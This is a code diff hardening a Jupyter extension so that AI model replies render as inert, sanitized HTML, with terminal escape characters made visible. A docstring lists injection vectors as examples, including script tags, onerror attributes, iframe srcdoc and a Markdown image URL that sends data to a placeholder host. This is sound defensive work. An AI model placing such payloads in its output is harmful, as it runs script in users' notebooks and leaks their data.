@@ -12,14 +12,16 @@ import sys
 import time
 from collections.abc import Sequence
 from dataclasses import dataclass, fields
+from functools import lru_cache
 from pathlib import Path
 from typing import Any
 
-from IPython.display import Markdown, display
+from IPython.display import display
 
 from hipo_jupyter.memory import CompactionReport, Layer1, RecallResult, render
 from hipo_jupyter.memory.tree import count_tokens
 from hipo_jupyter.memory.views import Rule, proposals_text, rules_index_text
+from hipo_jupyter.terminal import visible
 
 
 # --- recall -------------------------------------------------------------------------------
@@ -32,10 +34,10 @@ class RecallView(RecallResult):
         return cls(**{f.name: getattr(result, f.name) for f in fields(result)})
 
     def __str__(self) -> str:
-        return render.recall_text(self)
+        return visible(render.recall_text(self))
 
     def _repr_pretty_(self, printer: Any, cycle: bool) -> None:
-        printer.text(render.recall_text(self))
+        printer.text(visible(render.recall_text(self)))  # a terminal IPython obeys escapes
 
     def _repr_html_(self) -> str:
         return recall_html(self)
@@ -185,9 +187,73 @@ def conversation_text(conversation: Any, path: str, window: int) -> str:
     return "\n".join(lines)
 
 
+# --- a model's words, as inert HTML --------------------------------------------------------
+# What the reply's HTML may hold after cleaning: nh3's text formatting, lists, tables, code
+# and links, without <img>, <area> and <map>: nothing is fetched unless the person clicks.
+NOT_INERT_TAGS = frozenset({"img", "area", "map"})
+LINK_SCHEMES = frozenset({"http", "https", "mailto"})
+LINK_REL = "noopener noreferrer nofollow"
+
+
+@lru_cache(maxsize=1)
+def inert_tags() -> frozenset[str]:
+    import nh3
+
+    return frozenset(nh3.ALLOWED_TAGS) - NOT_INERT_TAGS
+
+
+@lru_cache(maxsize=1)
+def _markdown() -> Any:
+    """mistune's Markdown to HTML where raw HTML is text (`escape=True`) and an image is a
+    link; made on the first reply (mistune is imported then, not at `%load_ext`)."""
+    import mistune
+
+    class InertRenderer(mistune.HTMLRenderer):
+        def image(self, text: str, url: str, title: str | None = None) -> str:
+            label = html.escape(mistune.util.striptags(text) or url)
+            return f'<a href="{self.safe_url(url)}">[image: {label}]</a>'
+
+    return mistune.create_markdown(
+        renderer=InertRenderer(escape=True), plugins=["strikethrough", "table"]
+    )
+
+
+def inert_html(markdown: str) -> str:
+    """Markdown text from a model, an agent, a teammate or a file as HTML that cannot act.
+
+    Why not hand the text to the notebook as `text/markdown`: JupyterLab renders Markdown with
+    the HTML inside it, and the outputs of a notebook the user saved are trusted, so a
+    `<script>`, an `onerror=` or an `<iframe srcdoc>` in a reply runs on every reopening, and
+    `![x](http://host/?d=...)` fetches the moment the output is drawn. Here the Markdown is
+    rendered in the kernel with raw HTML escaped into visible text and each image turned into a
+    plain link (`[image: alt]`), then cleaned by nh3 (ammonia, a maintained allow-list
+    sanitizer) to text formatting, lists, tables, code and links: no script, style, event
+    attribute, frame, form or image survives, and links (http, https, mailto only, with
+    rel="noopener noreferrer nofollow") load nothing until clicked. The HTML is inert in the
+    saved file itself, so it stays inert whoever opens it, trusted or not."""
+    import nh3
+
+    rendered = str(_markdown()(markdown))
+    return nh3.clean(
+        rendered,
+        tags=set(inert_tags()),
+        url_schemes=set(LINK_SCHEMES),
+        link_rel=LINK_REL,
+        strip_comments=True,
+    )
+
+
+def reply_bundle(text: str) -> dict[str, str]:
+    """A reply as a notebook keeps it: the inert HTML above, and the text (`jupyter console`,
+    nbconvert to text or a reader without HTML shows that, often in a terminal); in both, its
+    control characters are visible escapes, as everywhere hipo shows stored text."""
+    shown = visible(text)
+    return {"text/html": f"<div class='hipo-reply'>{inert_html(shown)}</div>", "text/plain": shown}
+
+
 class ReplyView:
-    """A reply as it streams in: Markdown updated in place in a notebook (a few times a
-    second, not per token), plain text in a terminal."""
+    """A reply as it streams in: inert HTML (`reply_bundle`) updated in place in a notebook (a
+    few times a second, not per token), plain text in a terminal."""
 
     UPDATE_SECONDS = 0.1
 
@@ -199,15 +265,15 @@ class ReplyView:
 
     def add(self, chunk: str) -> None:
         self.text += chunk
-        if not self._in_kernel:
-            sys.stdout.write(chunk)
+        if not self._in_kernel:  # a terminal: its escapes shown, not obeyed
+            sys.stdout.write(visible(chunk))
             sys.stdout.flush()
             return
         now = time.monotonic()
         if self._handle is None:
             self._handle = self._show()
         elif now - self._last >= self.UPDATE_SECONDS:
-            self._handle.update(self._markdown())
+            self._handle.update(reply_bundle(self.text), raw=True)
         else:
             return
         self._last = now
@@ -220,10 +286,7 @@ class ReplyView:
             if self.text:
                 self._show()
         else:
-            self._handle.update(self._markdown())
-
-    def _markdown(self) -> Any:
-        return Markdown(self.text)
+            self._handle.update(reply_bundle(self.text), raw=True)
 
     def _show(self) -> Any:
-        return display(self._markdown(), display_id=True)
+        return display(reply_bundle(self.text), raw=True, display_id=True)
